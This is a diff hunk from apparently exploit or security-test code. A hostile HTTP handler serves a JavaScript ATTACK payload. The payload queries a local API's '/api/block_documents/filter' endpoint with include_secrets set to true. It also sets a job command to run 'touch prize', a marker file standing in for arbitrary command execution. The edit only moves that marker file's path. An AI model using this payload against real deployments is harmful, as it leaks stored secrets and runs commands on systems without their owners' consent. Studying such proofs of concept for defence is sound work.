@@ -198,7 +198,7 @@ class Hostile(BaseHTTPRequestHandler):
 ATTACK = """
 async ([root, deployment]) => {
   const all = JSON.stringify({block_documents: null, include_secrets: true});
-  const run = JSON.stringify({job_variables: {command: "touch /tmp/prize"}});
+  const run = JSON.stringify({job_variables: {command: "touch prize"}});
   const json = {"Content-Type": "application/json"};
   const asked = [
     ["/api/block_documents/filter", {method: "POST", headers: json, body: all}],
